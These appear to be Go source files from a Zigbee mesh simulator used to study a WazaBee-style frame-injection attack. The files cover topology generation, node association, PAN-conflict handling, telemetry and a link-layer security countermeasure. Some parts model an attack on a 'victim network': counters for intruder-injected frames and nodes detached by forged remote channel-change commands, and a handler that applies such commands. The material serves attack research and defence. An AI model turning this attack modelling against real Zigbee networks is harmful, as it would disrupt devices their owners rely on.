	nw.stats.AckFailures++
	nw.cAckFail.Inc()
	if t := nw.tel; t != nil {
		t.nodes[n.id].ackFailures++
	}
	nw.txFailed(n, out)
	n.txBusy = false
	nw.processQueue(n)
}

// txAcked runs the post-acknowledgement hooks of a transmission.
func (nw *Network) txAcked(n *node, out *outgoing) {
	if out.kind == kindAssocRequest && n.state == stateWaitAssoc {
		gen := n.joinGen
		nw.sched.After(assocRespWait, func() {
			if n.joinGen == gen && n.state != stateJoined {
				nw.rescan(n)
			}
		})
	}
}

// txFailed runs the failure fallbacks of an abandoned transmission.
func (nw *Network) txFailed(n *node, out *outgoing) {
	switch out.kind {
	case kindAssocRequest:
		if n.state == stateWaitAssoc {
			nw.rescan(n)
		}
	case kindBeaconRequest:
		// The scan window will close empty and back off by itself.
	}
}

// handleBeaconRequest answers an active scan when this node can admit
// the scanner.
func (nw *Network) handleBeaconRequest(r *node, tx *transmission) {
	if r.state != stateJoined || !r.permitJoin {
		return
	}
	r.seq++
	frame := ieee802154.NewBeacon(r.seq, r.pan, r.short)
	nw.enqueueTx(r, &outgoing{kind: kindBeacon, frame: frame, mode: targetBeaconAudience})
}

// handleBeacon is the triple-duty beacon sink: scanners collect it,
// joined children track their parent's PAN (adopting a post-conflict
// migration), and coordinators detect PAN-ID conflicts.
func (nw *Network) handleBeacon(r *node, tx *transmission) {
	if tx.src < 0 {
		return // forged beacons carry no node to resolve against
	}
	src := nw.nodes[tx.src]
	switch {
	case r.state == stateScanning:
		for _, b := range r.heard {
			if b.src == tx.src {
				return
			}
		}
		r.heard = append(r.heard, beaconHeard{src: tx.src, short: src.short, pan: src.pan})
	case r.state == stateJoined && tx.src == r.parentID && src.pan != r.pan:
		// Parent migrated PANs after a conflict: follow it. Routers
		// propagate the move to their own children via their next
		// beacon.
		r.pan = src.pan
	case r.spec.Role == RoleCoordinator && r.state == stateJoined:
		if src.pan == r.pan && nw.rootOf[tx.src] != r.id {
			nw.panConflict(r)
		}
	}
}

// panConflict resolves a detected PAN-ID collision: the coordinator
// with the higher extended address rebinds to a fresh PAN drawn from
// its private stream (both coordinators hear each other's beacons, so
// exactly one of them moves). Children adopt the new PAN from
// subsequent beacons.
func (nw *Network) panConflict(c *node) {
	for _, other := range nw.coordsOn[c.spec.Channel] {
		o := nw.nodes[other]
		if other != c.id && o.pan == c.pan && o.ext > c.ext {
			return // the other coordinator owns the rebind
		}
	}
	old := c.pan
	next := c.pan
	for next == old || next == ieee802154.BroadcastPAN || nw.panInUse(c.spec.Channel, next, c.id) {
		next = uint16(c.rng.Intn(0xfffe) + 1)
	}
	c.pan = next
	nw.stats.PANConflicts++
	nw.cConflicts.Inc()
	nw.flight.Record(obs.FlightEvent{
		Kind: "state", Component: "sim", Frame: -1,
		Detail: fmt.Sprintf("PAN conflict: coordinator %d rebind %#04x -> %#04x", c.id, old, next),
	})
}

// panInUse reports whether another coordinator on the channel already
// claims the PAN.
func (nw *Network) panInUse(channel int, pan uint16, except int) bool {
	for _, id := range nw.coordsOn[channel] {
		if id != except && nw.nodes[id].pan == pan {
			return true
		}
	}
	return false
}

// handleAssocRequest admits a joiner: assign a short address and answer
// with an association response after the response delay.
func (nw *Network) handleAssocRequest(r *node, tx *transmission) {
	if r.state != stateJoined || !r.permitJoin {
		return
	}
	joiner := tx.src
	assigned := nw.allocShort(nw.rootOf[r.id])
	if !r.childSet[joiner] {
		r.childSet[joiner] = true
		r.children = append(r.children, joiner)
	}
	r.seq++
	frame := ieee802154.NewAssociationResponse(r.seq, r.pan, ieee802154.NoShortAddress, assigned, ieee802154.AssocStatusSuccess)
	nw.sched.After(assocRespDelay, func() {
		nw.enqueueTx(r, &outgoing{kind: kindAssocResponse, frame: frame, mode: targetNode, to: joiner, needAck: true})
	})
}

// handleAssocResponse completes the join on the device side.
func (nw *Network) handleAssocResponse(r *node, tx *transmission) {
	if r.state == stateJoined {
		return
	}
	assigned, status, err := ieee802154.ParseAssociationResponse(tx.frame.Payload)
	if err != nil || status != ieee802154.AssocStatusSuccess {
		return
	}
	r.parentID = tx.src
	r.parentShort = nw.nodes[tx.src].short
	r.pan = nw.nodes[tx.src].pan
	nw.completeJoin(r, assigned)
}

// handleData accepts a sensor reading: coordinators record it, routers
// forward it towards their own parent with the hop count incremented.
func (nw *Network) handleData(r *node, tx *transmission) {
	payload := tx.frame.Payload
	if ch, frameID, ok := remoteChannelChange(payload); ok {
		nw.applyChannelChange(r, frameID, ch)
		return
	}
	if len(payload) != 4 || payload[0] != 0x77 {
		return
	}
	if r.spec.Role == RoleCoordinator {
		nw.stats.Readings++
		if t := nw.tel; t != nil {
			t.nodes[r.id].readings++
		}
		return
	}
	if r.state != stateJoined {
		return
	}
	nw.stats.Forwarded++
	if t := nw.tel; t != nil {
		t.nodes[r.id].forwarded++
	}
	fwd := []byte{payload[0], payload[1], payload[2], payload[3] + 1}
	r.seq++
	frame := ieee802154.NewDataFrame(r.seq, r.pan, r.parentShort, r.short, fwd, true)
	nw.enqueueTx(r, &outgoing{kind: kindData, frame: frame, mode: targetNode, to: r.parentID, needAck: true})
}
