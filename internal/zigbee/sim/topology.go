package sim

import (
	"fmt"
	"math/rand"

	"wazabee/internal/ieee802154"
)

// Role is a node's 802.15.4 device role.
type Role uint8

const (
	// RoleCoordinator starts the PAN: it owns short address 0x0000,
	// beacons from time zero and admits joiners.
	RoleCoordinator Role = iota
	// RoleRouter joins like an end device, then beacons and admits
	// children of its own, forwarding their data towards the
	// coordinator.
	RoleRouter
	// RoleEndDevice joins a parent and reports periodic sensor data.
	RoleEndDevice
)

// String implements fmt.Stringer.
func (r Role) String() string {
	switch r {
	case RoleCoordinator:
		return "coordinator"
	case RoleRouter:
		return "router"
	case RoleEndDevice:
		return "end_device"
	default:
		return fmt.Sprintf("role(%d)", uint8(r))
	}
}

// Defaults shared with the live victim network (internal/zigbee keeps
// its own copies; sim cannot import it without a cycle).
const (
	// DefaultPAN is the experimental PAN identifier.
	DefaultPAN = 0x1234
	// DefaultChannel is the experimental 802.15.4 channel.
	DefaultChannel = 14
)

// NodeSpec describes one node of a topology before the network
// instantiates it.
type NodeSpec struct {
	// Role is the node's device role.
	Role Role
	// Parent is the index of the node's intended parent (-1 for
	// coordinators). Parents always precede children in the node list.
	Parent int
	// Channel is the 802.15.4 channel the node's PAN operates on.
	Channel int
	// PAN is the PAN identifier the node belongs to. Two coordinators
	// sharing (Channel, PAN) is legal input: it exercises the PAN-ID
	// conflict resolution path.
	PAN uint16
}

// Topology is a generated mesh layout: the seeded vocabulary the
// experiments, benchmarks and CLI share, so "Tree(3, 10) at seed 42"
// names the same network everywhere.
type Topology struct {
	Nodes []NodeSpec
}

// Counts returns how many nodes hold each role.
func (t Topology) Counts() (coordinators, routers, endDevices int) {
	for _, n := range t.Nodes {
		switch n.Role {
		case RoleCoordinator:
			coordinators++
		case RoleRouter:
			routers++
		default:
			endDevices++
		}
	}
	return
}

// Validate checks the structural invariants the network relies on:
// parents precede their children, only coordinators are parentless,
// parents can actually parent (coordinator or router, same channel and
// PAN), and channels are legal.
func (t Topology) Validate() error {
	if len(t.Nodes) == 0 {
		return fmt.Errorf("sim: empty topology")
	}
	for i, n := range t.Nodes {
		if _, err := ieee802154.ChannelFrequencyMHz(n.Channel); err != nil {
			return fmt.Errorf("sim: node %d: %w", i, err)
		}
		if n.Role == RoleCoordinator {
			if n.Parent != -1 {
				return fmt.Errorf("sim: coordinator %d has parent %d", i, n.Parent)
			}
			continue
		}
		if n.Parent < 0 || n.Parent >= i {
			return fmt.Errorf("sim: node %d parent %d out of order (parents must precede children)", i, n.Parent)
		}
		p := t.Nodes[n.Parent]
		if p.Role == RoleEndDevice {
			return fmt.Errorf("sim: node %d parented to end device %d", i, n.Parent)
		}
		if p.Channel != n.Channel || p.PAN != n.PAN {
			return fmt.Errorf("sim: node %d on channel %d PAN %#04x, parent %d on channel %d PAN %#04x",
				i, n.Channel, n.PAN, n.Parent, p.Channel, p.PAN)
		}
	}
	return nil
}

// Star returns one coordinator with n end-device children, all on the
// default channel and PAN — the paper's sensor network scaled out.
func Star(n int) Topology {
	nodes := make([]NodeSpec, 0, n+1)
	nodes = append(nodes, NodeSpec{Role: RoleCoordinator, Parent: -1, Channel: DefaultChannel, PAN: DefaultPAN})
	for i := 0; i < n; i++ {
		nodes = append(nodes, NodeSpec{Role: RoleEndDevice, Parent: 0, Channel: DefaultChannel, PAN: DefaultPAN})
	}
	return Topology{Nodes: nodes}
}

// Tree returns a full fanout-ary tree of the given depth: the root
// coordinator, routers on every interior level and end devices on the
// leaves. Tree(3, 10) is the thousand-node acceptance mesh: 1
// coordinator, 110 routers, 1000 end devices.
func Tree(depth, fanout int) Topology {
	if depth < 1 {
		depth = 1
	}
	if fanout < 1 {
		fanout = 1
	}
	nodes := []NodeSpec{{Role: RoleCoordinator, Parent: -1, Channel: DefaultChannel, PAN: DefaultPAN}}
	level := []int{0}
	for d := 1; d <= depth; d++ {
		role := RoleRouter
		if d == depth {
			role = RoleEndDevice
		}
		var next []int
		for _, parent := range level {
			for i := 0; i < fanout; i++ {
				nodes = append(nodes, NodeSpec{Role: role, Parent: parent, Channel: DefaultChannel, PAN: DefaultPAN})
				next = append(next, len(nodes)-1)
			}
		}
		level = next
	}
	return Topology{Nodes: nodes}
}

// Random returns a seeded random mesh of n nodes: one coordinator per
// started PAN (1 + n/400, spread over distinct channels drawn from the
// 2.4 GHz page), roughly a quarter of the remaining nodes routers, and
// every non-coordinator parented to a uniformly chosen earlier
// coordinator or router of its PAN. The same (n, seed) always yields
// the same topology.
func Random(n int, seed int64) Topology {
	if n < 2 {
		n = 2
	}
	rnd := rand.New(rand.NewSource(nodeSeed(seed, -1)))
	pans := 1 + (n-1)/400
	channels := rnd.Perm(ieee802154.LastChannel - ieee802154.FirstChannel + 1)

	nodes := make([]NodeSpec, 0, n)
	// parentsByPAN collects join-capable node indices per PAN.
	parentsByPAN := make([][]int, pans)
	for p := 0; p < pans; p++ {
		nodes = append(nodes, NodeSpec{
			Role:    RoleCoordinator,
			Parent:  -1,
			Channel: ieee802154.FirstChannel + channels[p%len(channels)],
			PAN:     uint16(0x1000 + 0x111*p),
		})
		parentsByPAN[p] = []int{p}
	}
	for len(nodes) < n {
		pan := rnd.Intn(pans)
		parents := parentsByPAN[pan]
		parent := parents[rnd.Intn(len(parents))]
		role := RoleEndDevice
		if rnd.Intn(4) == 0 {
			role = RoleRouter
		}
		spec := NodeSpec{
			Role:    role,
			Parent:  parent,
			Channel: nodes[parent].Channel,
			PAN:     nodes[parent].PAN,
		}
		nodes = append(nodes, spec)
		if role == RoleRouter {
			parentsByPAN[pan] = append(parentsByPAN[pan], len(nodes)-1)
		}
	}
	return Topology{Nodes: nodes}
}
