package sim

import (
	"fmt"
	"io"
	"math/rand"
	"sync/atomic"
	"time"

	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

// nodeState is a node's MAC association state.
type nodeState uint8

const (
	stateIdle nodeState = iota
	stateScanning
	stateWaitAssoc
	stateJoined
)

// outgoing is one frame queued for CSMA-CA transmission.
type outgoing struct {
	kind    frameKind
	frame   *ieee802154.MACFrame
	psdu    []byte
	mode    targetMode
	to      int
	needAck bool

	retries int // acknowledged-retransmission count
	be      int // current backoff exponent
	ncb     int // CSMA backoff attempts this transmission
}

// node is one simulated device. All mutation happens on the event loop;
// nothing here is touched concurrently.
type node struct {
	id   int
	spec NodeSpec
	rng  *rand.Rand

	// ext is the 64-bit extended (IEEE) address; short is the 16-bit
	// address assigned at association (0xFFFE before). PAN-ID conflict
	// arbitration compares ext addresses.
	ext   uint64
	short uint16
	pan   uint16

	state   nodeState
	seq     uint8
	joinGen uint64 // invalidates stale scan/association timeouts

	parentID    int
	parentShort uint16
	heard       []beaconHeard
	scanRetries int

	txBusy   bool
	queue    []*outgoing
	awaiting *outgoing
	ackGen   uint64
	// radioBusyUntil is when the node's own transceiver frees up —
	// transmissions in flight plus acknowledgements it has committed to.
	// A half-duplex radio neither passes CCA nor receives before then.
	radioBusyUntil time.Duration

	permitJoin bool
	children   []int
	childSet   map[int]bool

	reading uint16
}

// beaconHeard is one beacon collected during an active scan.
type beaconHeard struct {
	src   int
	short uint16
	pan   uint16
}

// ExtAddrBase is the OUI prefix simulated extended addresses share with
// the paper's XBee hardware.
const ExtAddrBase = 0x00124b00_00000000

// Config parameterises a virtual network. Zero values select the
// defaults of the paper's setup (2-second cadence, 25 dB links).
type Config struct {
	// Seed drives every random draw via per-node splitmix64 streams.
	Seed int64
	// SNRdB is the per-link signal-to-noise ratio handed to the virtual
	// medium's erasure model. Default 25.
	SNRdB float64
	// BeaconInterval is the coordinator/router beacon cadence. Default 2s.
	BeaconInterval time.Duration
	// DataInterval is the end-device (and router) reporting cadence.
	// Default 2s.
	DataInterval time.Duration
	// ScanDuration is how long an active scan collects beacons. The
	// default 140ms approximates the standard's ScanDuration=3 active
	// scan and rides out CSMA queueing on a loaded parent.
	ScanDuration time.Duration
	// JoinSpread is the window over which unjoined nodes begin their
	// first scan, bounding the association storm. Default 2s.
	JoinSpread time.Duration
	// StallAfter is how long a blocked observer send may last before
	// the health component degrades. Default 2s of wall time.
	StallAfter time.Duration

	// Fidelity selects the frame-delivery tier of the victim links
	// (radio.FidelitySymbol or radio.FidelityFrame; zero selects
	// FidelityFrame, the erasure model meshes have always run on).
	// FidelityIQ is rejected: the mesh simulator never synthesises
	// waveforms. Same-seed runs are bit-identical within a tier, but
	// the tiers draw from their calibrated distributions differently,
	// so digests differ across tiers.
	Fidelity radio.Fidelity

	// Registry, Trace and Flight receive the simulator's telemetry;
	// nil falls back to the process defaults.
	Registry *obs.Registry
	Trace    *obs.Trace
	Flight   *obs.Flight

	// Telemetry enables the simulation observatory: per-node and
	// per-link counters, join-latency tracking and the radio energy
	// accountant. Off by default — the uninstrumented event loop stays
	// the benchmark baseline.
	Telemetry bool
	// Chip selects the energy accountant's current-draw profile
	// ("cc2652", "nrf52840"; default cc2652).
	Chip string
	// TraceWriter, when non-nil, receives the virtual-time trace as
	// Chrome trace-event JSON, streamed as the run executes. Setting it
	// implies Telemetry. Call CloseTrace after the final Run to
	// terminate the document.
	TraceWriter io.Writer
}

func (c *Config) fill() {
	if c.SNRdB == 0 {
		c.SNRdB = 25
	}
	if c.BeaconInterval <= 0 {
		c.BeaconInterval = 2 * time.Second
	}
	if c.DataInterval <= 0 {
		c.DataInterval = 2 * time.Second
	}
	if c.ScanDuration <= 0 {
		c.ScanDuration = 140 * time.Millisecond
	}
	if c.JoinSpread <= 0 {
		c.JoinSpread = 2 * time.Second
	}
	if c.StallAfter <= 0 {
		c.StallAfter = 2 * time.Second
	}
	if c.Fidelity == 0 {
		c.Fidelity = radio.FidelityFrame
	}
	if c.TraceWriter != nil {
		c.Telemetry = true
	}
}

// Stats is a snapshot of the network's counters. Read it between Run
// calls — it is not synchronised against a running event loop.
type Stats struct {
	Nodes, Joined int

	Frames     uint64 // transmissions put on the air
	Beacons    uint64
	DataFrames uint64
	Acks       uint64
	Commands   uint64

	Collisions   uint64 // transmissions that overlapped another
	Backoffs     uint64 // CSMA backoff draws
	CCAFailures  uint64 // transmissions abandoned after macMaxCSMABackoffs
	Retries      uint64 // acknowledged retransmissions attempted
	AckFailures  uint64 // transmissions abandoned after macMaxFrameRetries
	Erasures     uint64 // deliveries lost to link noise
	DeafMisses   uint64 // deliveries missed by a half-duplex receiver mid-transmission
	Readings     uint64 // data frames accepted at a coordinator
	Forwarded    uint64 // data frames relayed by a router
	PANConflicts uint64 // coordinator PAN-ID rebinds
	Joins        uint64 // successful associations

	Injected          uint64 // intruder frames put on the air
	InjectedDelivered uint64 // intruder frames a victim MAC processed
	ChannelMigrations uint64 // nodes detached by a forged remote AT retune

	Events      uint64        // scheduler events executed
	VirtualTime time.Duration // current virtual clock
	HeapDepth   int           // event-heap high-water mark
}

// Network is a virtual-time Zigbee mesh: topology-instantiated node
// actors, per-cell collision domains and a frame-level radio medium,
// all driven by one Scheduler. The event loop is single-threaded;
// concurrency happens at the observer boundary (Observe channels are
// safe to consume from other goroutines while Run executes).
type Network struct {
	cfg   Config
	topo  Topology
	sched *Scheduler
	med   *radio.Medium
	ch    radio.Channel // calibrated delivery tier (symbol or frame)

	nodes    []*node
	topoKids [][]int // topology children by node index
	rootOf   []int   // root coordinator by node index
	coordsOn map[int][]int
	freq     map[int]float64
	airs     map[int]*air

	frameSeq  uint64
	allocNext map[int]uint16 // per-root short-address allocator

	taps      map[int][]func(FrameCapture)
	observers map[int][]*Observer

	stats Stats

	// telemetry, pre-resolved so the event loop never does registry
	// lookups.
	reg         *obs.Registry
	trace       *obs.Trace
	flight      *obs.Flight
	cFrames     map[frameKind]*obs.Counter
	cCollisions *obs.Counter
	cBackoffs   *obs.Counter
	cCCAFail    *obs.Counter
	cRetries    *obs.Counter
	cAckFail    *obs.Counter
	cErasures   *obs.Counter
	cDeaf       *obs.Counter
	cJoins      *obs.Counter
	cConflicts  *obs.Counter
	cEvents     *obs.Counter

	cInjected          *obs.Counter
	cInjectedDelivered *obs.Counter
	cMigrations        *obs.Counter
	gVirtual    *obs.Gauge
	gHeapDepth  *obs.Gauge
	gJoined     *obs.Gauge

	lastEvents     uint64
	depthThreshold int

	// tel is the simulation observatory (nil when Config.Telemetry is
	// off — every hook in the MAC path nil-checks it, keeping the
	// uninstrumented loop free of observatory work).
	tel        *telemetry
	heapGauges *HeapGauges

	// snapshot published for the /debug/sim handler; refreshed at batch
	// boundaries once a handler exists.
	wantSnapshot atomic.Bool
	snap         atomic.Pointer[Snapshot]

	// observer-stall bookkeeping, read by the health probe from any
	// goroutine.
	sendBlockedSince atomic.Int64 // wall unix nanos; 0 = not blocked
	running          atomic.Bool
}

// New instantiates a topology into a virtual network at time zero:
// coordinators come up joined and beaconing, everything else starts its
// first active scan within cfg.JoinSpread.
func New(topo Topology, cfg Config) (*Network, error) {
	if err := topo.Validate(); err != nil {
		return nil, err
	}
	cfg.fill()
	sampleRate := 8 * float64(ieee802154.ChipRate)
	med, err := radio.NewMedium(sampleRate, cfg.Seed)
	if err != nil {
		return nil, err
	}
	med.Obs = cfg.Registry
	if cfg.Fidelity == radio.FidelityIQ {
		return nil, fmt.Errorf("sim: FidelityIQ is not supported (the mesh simulator never synthesises waveforms); use symbol or frame")
	}
	ch, err := med.Channel(cfg.Fidelity, radio.ChannelOptions{Profile: radio.ProfileOQPSK})
	if err != nil {
		return nil, err
	}

	nw := &Network{
		cfg:       cfg,
		topo:      topo,
		sched:     NewScheduler(),
		med:       med,
		ch:        ch,
		coordsOn:  make(map[int][]int),
		freq:      make(map[int]float64),
		airs:      make(map[int]*air),
		allocNext: make(map[int]uint16),
		taps:      make(map[int][]func(FrameCapture)),
		observers: make(map[int][]*Observer),

		reg:            obs.Or(cfg.Registry),
		trace:          cfg.Trace,
		flight:         obs.OrFlight(cfg.Flight),
		depthThreshold: 64,
	}
	nw.cFrames = map[frameKind]*obs.Counter{}
	for _, k := range []frameKind{kindBeacon, kindBeaconRequest, kindAssocRequest, kindAssocResponse, kindData, kindAck} {
		nw.cFrames[k] = nw.reg.Counter("wazabee_sim_frames_total", "kind", k.String())
	}
	nw.cCollisions = nw.reg.Counter("wazabee_sim_collisions_total")
	nw.cBackoffs = nw.reg.Counter("wazabee_sim_backoffs_total")
	nw.cCCAFail = nw.reg.Counter("wazabee_sim_cca_failures_total")
	nw.cRetries = nw.reg.Counter("wazabee_sim_retries_total")
	nw.cAckFail = nw.reg.Counter("wazabee_sim_ack_failures_total")
	nw.cErasures = nw.reg.Counter("wazabee_sim_erasures_total")
	nw.cDeaf = nw.reg.Counter("wazabee_sim_deaf_misses_total")
	nw.cJoins = nw.reg.Counter("wazabee_sim_joins_total")
	nw.cConflicts = nw.reg.Counter("wazabee_sim_pan_conflicts_total")
	nw.cInjected = nw.reg.Counter("wazabee_sim_injected_total", "result", "offered")
	nw.cInjectedDelivered = nw.reg.Counter("wazabee_sim_injected_total", "result", "delivered")
	nw.cMigrations = nw.reg.Counter("wazabee_sim_channel_migrations_total")
	nw.cEvents = nw.reg.Counter("wazabee_sim_events_total")
	nw.gVirtual = nw.reg.Gauge("wazabee_sim_virtual_seconds")
	nw.gHeapDepth = nw.reg.Gauge("wazabee_sim_heap_depth")
	nw.gJoined = nw.reg.Gauge("wazabee_sim_nodes", "state", "joined")
	nw.heapGauges = NewHeapGauges(nw.reg, "virtual")

	if cfg.Telemetry {
		profile, err := ProfileByName(cfg.Chip)
		if err != nil {
			return nil, err
		}
		var tw *traceWriter
		if cfg.TraceWriter != nil {
			tw = newTraceWriter(cfg.TraceWriter, topo)
		}
		nw.tel = newTelemetry(topo, profile, nw.reg, tw)
	}

	nw.build()
	return nw, nil
}

// build creates node actors and schedules their opening moves.
func (nw *Network) build() {
	specs := nw.topo.Nodes
	nw.nodes = make([]*node, len(specs))
	nw.topoKids = make([][]int, len(specs))
	nw.rootOf = make([]int, len(specs))
	roleCount := map[Role]int{}
	for i, spec := range specs {
		n := &node{
			id:       i,
			spec:     spec,
			rng:      nodeRand(nw.cfg.Seed, i),
			ext:      ExtAddrBase | uint64(i+1),
			short:    ieee802154.NoShortAddress,
			pan:      spec.PAN,
			parentID: spec.Parent,
			childSet: map[int]bool{},
		}
		nw.nodes[i] = n
		roleCount[spec.Role]++
		if spec.Role == RoleCoordinator {
			nw.rootOf[i] = i
			nw.coordsOn[spec.Channel] = append(nw.coordsOn[spec.Channel], i)
		} else {
			nw.rootOf[i] = nw.rootOf[spec.Parent]
			nw.topoKids[spec.Parent] = append(nw.topoKids[spec.Parent], i)
		}
		if _, ok := nw.freq[spec.Channel]; !ok {
			f, _ := ieee802154.ChannelFrequencyMHz(spec.Channel)
			nw.freq[spec.Channel] = f
		}
	}
	for role, count := range roleCount {
		nw.reg.Gauge("wazabee_sim_nodes", "role", role.String()).Set(float64(count))
	}
	nw.stats.Nodes = len(specs)

	for _, n := range nw.nodes {
		n := n
		if n.spec.Role == RoleCoordinator {
			n.short = 0x0000
			n.state = stateJoined
			n.permitJoin = true
			nw.allocNext[n.id] = 1
			nw.stats.Joined++
			if nw.tel != nil {
				// Coordinators come up joined: zero join latency.
				nw.tel.nodes[n.id].joinedAt = 0
			}
			nw.sched.At(nw.jitter(n, nw.cfg.BeaconInterval), func() { nw.beaconLoop(n) })
			continue
		}
		nw.sched.At(nw.jitter(n, nw.cfg.JoinSpread), func() { nw.startScan(n) })
	}
	nw.noteJoinedGauge()
}

// jitter draws a uniform delay in [0, d) from the node's private stream.
func (nw *Network) jitter(n *node, d time.Duration) time.Duration {
	if d <= 0 {
		return 0
	}
	return time.Duration(n.rng.Int63n(int64(d)))
}

// cell returns the collision domain owned by a join-capable node.
func (nw *Network) cell(owner int) *air {
	a := nw.airs[owner]
	if a == nil {
		a = &air{}
		nw.airs[owner] = a
	}
	return a
}

// cellOwners lists the owners of the collision domains a node's
// transmissions occupy: its parent's cell (uplink receiver's
// neighborhood) and, for join-capable nodes, their own cell. -1 marks an
// unused slot.
func (nw *Network) cellOwners(n *node) [2]int {
	if n.spec.Role == RoleCoordinator {
		return [2]int{n.id, -1}
	}
	if n.spec.Role == RoleRouter {
		return [2]int{n.parentID, n.id}
	}
	return [2]int{n.parentID, -1}
}

// cellsOf resolves cellOwners to the air instances.
func (nw *Network) cellsOf(n *node) [2]*air {
	var cells [2]*air
	for i, owner := range nw.cellOwners(n) {
		if owner >= 0 {
			cells[i] = nw.cell(owner)
		}
	}
	return cells
}

// destCellOwner resolves the cell a transmission's receiver lives in:
// join-capable receivers own their cell, end devices live in their
// parent's, broadcasts are received in the sender's own neighborhood.
func (nw *Network) destCellOwner(n *node, out *outgoing) int {
	switch out.mode {
	case targetNode:
		if out.to < 0 || out.to >= len(nw.nodes) {
			// Replies to an out-of-topology intruder go out in the
			// sender's own neighborhood: real airtime and contention,
			// no in-topology receiver.
			if n.spec.Role == RoleEndDevice {
				return n.parentID
			}
			return n.id
		}
		rx := nw.nodes[out.to]
		if rx.spec.Role == RoleEndDevice {
			return rx.parentID
		}
		return rx.id
	case targetParent:
		return n.parentID
	default: // targetBeaconAudience
		if n.spec.Role == RoleEndDevice {
			return n.parentID
		}
		return n.id
	}
}

// Now returns the virtual clock.
func (nw *Network) Now() time.Duration { return nw.sched.Now() }

// Scheduler exposes the underlying event queue (benchmarks and the
// pacer-driven integrations need it).
func (nw *Network) Scheduler() *Scheduler { return nw.sched }

// Run executes every event due at or before the virtual instant t. It
// is the batch driver: splitting one Run into any sequence of smaller
// advances executes the identical event sequence.
func (nw *Network) Run(t time.Duration) {
	end := obs.Stage(nw.reg, nw.trace, "sim_run")
	defer end()
	nw.running.Store(true)
	defer nw.running.Store(false)
	nw.sched.RunUntil(t)
	nw.afterBatch()
}

// Step executes a single event, returning false when the queue is empty.
func (nw *Network) Step() bool {
	ok := nw.sched.Step()
	nw.afterBatch()
	return ok
}

// afterBatch refreshes the batch-cadence telemetry: event counters,
// clock and heap gauges, and flight-recorder entries when the heap depth
// crosses a new doubling threshold.
func (nw *Network) afterBatch() {
	executed := nw.sched.Executed()
	if delta := executed - nw.lastEvents; delta > 0 {
		nw.cEvents.Add(delta)
		nw.lastEvents = executed
	}
	nw.stats.Events = executed
	nw.stats.VirtualTime = nw.sched.Now()
	nw.stats.HeapDepth = nw.sched.MaxDepth()
	nw.gVirtual.Set(nw.sched.Now().Seconds())
	nw.gHeapDepth.Set(float64(nw.sched.MaxDepth()))
	nw.heapGauges.Publish(nw.sched)
	if nw.tel != nil {
		nw.tel.publish(nw.sched.Now())
	}
	if nw.wantSnapshot.Load() {
		nw.snap.Store(nw.Snapshot())
	}
	if d := nw.sched.MaxDepth(); d >= nw.depthThreshold {
		for nw.depthThreshold <= d {
			nw.depthThreshold *= 2
		}
		nw.flight.Record(obs.FlightEvent{
			Kind: "state", Component: "sim", Frame: -1,
			Detail: fmt.Sprintf("event heap high-water %d (pending %d)", d, nw.sched.Len()),
		})
	}
}

// noteJoinedGauge refreshes the joined-nodes gauge.
func (nw *Network) noteJoinedGauge() {
	nw.gJoined.Set(float64(nw.stats.Joined))
}

// CloseTrace finishes the virtual-time trace: it closes every node's
// open radio-state slice at the current virtual instant and terminates
// the JSON document. Call once after the final Run; a network without a
// trace writer returns nil. The trailing flush depends only on the final
// virtual time, so traces stay byte-identical however the run was
// batched.
func (nw *Network) CloseTrace() error {
	if nw.tel == nil || nw.tel.trace == nil {
		return nil
	}
	now := nw.sched.Now()
	for i := range nw.nodes {
		nw.tel.radioTransition(i, now, RadioIdle)
	}
	return nw.tel.trace.Close()
}

// Stats snapshots the counters. Call between Run invocations.
func (nw *Network) Stats() Stats {
	s := nw.stats
	s.Events = nw.sched.Executed()
	s.VirtualTime = nw.sched.Now()
	s.HeapDepth = nw.sched.MaxDepth()
	return s
}

// NodeInfo describes one node's identity and association outcome.
type NodeInfo struct {
	ID      int
	Role    Role
	Ext     uint64
	Short   uint16
	PAN     uint16
	Channel int
	Joined  bool
}

// Node returns the current state of node i.
func (nw *Network) Node(i int) NodeInfo {
	n := nw.nodes[i]
	return NodeInfo{
		ID: i, Role: n.spec.Role, Ext: n.ext, Short: n.short,
		PAN: n.pan, Channel: n.spec.Channel, Joined: n.state == stateJoined,
	}
}

// RegisterHealth registers the simulator with a health registry: the
// component degrades when an observer send has been blocked for longer
// than Config.StallAfter — the signature a stalled consumer leaves on a
// virtual-time loop, where "the event loop makes no progress" and "an
// observer stopped draining" are the same condition.
func (nw *Network) RegisterHealth(h *obs.Health) *obs.HealthComponent {
	var c *obs.HealthComponent
	c = h.Register("sim", false, func() error {
		since := nw.sendBlockedSince.Load()
		if since != 0 {
			blocked := time.Since(time.Unix(0, since))
			if blocked > nw.cfg.StallAfter {
				c.SetDegraded(fmt.Sprintf("event loop stalled %v on an observer send", blocked.Round(time.Millisecond)))
				return nil
			}
		}
		c.SetOK()
		return nil
	})
	return c
}
