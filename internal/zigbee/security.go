package zigbee

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sync"

	"wazabee/internal/ieee802154"
)

// ErrReplay is returned when a frame reuses an already-seen frame
// counter.
var ErrReplay = errors.New("zigbee: frame counter replayed")

// auxHeaderLen is the simplified auxiliary security header carried in
// secured payloads: security level (1), frame counter (4), source
// extended address (8).
const auxHeaderLen = 13

// SecurityContext holds a node's link-layer security state: the shared
// network key, this node's extended address (the CCM* nonce source), its
// outgoing frame counter and the replay window for its peers.
//
// This is the counter-measure of section VII: a WazaBee attacker can
// still put perfectly modulated frames on the air, but without the key
// they fail authentication and are silently dropped.
type SecurityContext struct {
	// Key is the 16-byte network key.
	Key []byte
	// ExtAddr is this node's 64-bit extended address.
	ExtAddr uint64
	// Level selects the protection mode (encrypted levels recommended).
	Level ieee802154.SecurityLevel

	mu       sync.Mutex
	counter  uint32
	lastSeen map[uint64]uint32
}

// NewSecurityContext builds a security context.
func NewSecurityContext(key []byte, extAddr uint64, level ieee802154.SecurityLevel) (*SecurityContext, error) {
	if len(key) != 16 {
		return nil, fmt.Errorf("zigbee: key length %d, want 16", len(key))
	}
	if level == ieee802154.SecNone {
		return nil, fmt.Errorf("zigbee: security context needs a protecting level")
	}
	return &SecurityContext{
		Key:      append([]byte{}, key...),
		ExtAddr:  extAddr,
		Level:    level,
		lastSeen: make(map[uint64]uint32),
	}, nil
}

// Seal protects an application payload: auxiliary header followed by the
// CCM* output. The frame counter increments per call.
func (c *SecurityContext) Seal(payload []byte) ([]byte, error) {
	c.mu.Lock()
	c.counter++
	counter := c.counter
	c.mu.Unlock()

	aux := make([]byte, auxHeaderLen)
	aux[0] = byte(c.Level)
	binary.LittleEndian.PutUint32(aux[1:5], counter)
